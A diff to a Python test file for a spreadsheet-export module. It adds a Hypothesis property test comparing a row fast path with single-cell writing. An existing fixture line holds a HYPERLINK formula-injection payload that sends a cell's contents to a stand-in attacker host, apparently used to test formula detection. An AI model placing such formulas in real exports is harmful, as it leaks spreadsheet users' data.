@@ -7,12 +7,14 @@ import json
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 openpyxl = pytest.importorskip("openpyxl")
 
 from softenv_core.cli.main import main  # noqa: E402
 from softenv_core.io.dataset_files import load_dataset  # noqa: E402
-from softenv_core.io.workbook_text import formula_like, shown  # noqa: E402
+from softenv_core.io.workbook_text import formula_like, shown, xlsx_cell, xlsx_row  # noqa: E402
 
 EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "small-dataset.json"
 LINK = '=HYPERLINK("http://evil.example/?"&B3,"点此查看")'
@@ -106,3 +108,13 @@ def test_shown_keeps_line_breaks_and_shows_what_xml_cannot_hold():
     assert shown("a\tb\nc\rd") == "a\tb\nc\rd"
     assert shown("\x00\x1b\x7f\x85\ud800\uffff") == "␀␛␡<U+0085><U+D800><U+FFFF>"
     assert shown("普通文字") == "普通文字"
+
+
+@given(st.text(max_size=12))
+def test_the_row_fast_path_agrees_with_the_cell(text):
+    wb = openpyxl.Workbook(write_only=True)
+    ws = wb.create_sheet("t")
+    (fast,) = xlsx_row(ws, [text])
+    slow = xlsx_cell(ws, text)
+    assert getattr(fast, "value", fast) == getattr(slow, "value", slow)
+    assert hasattr(fast, "value") == hasattr(slow, "value")
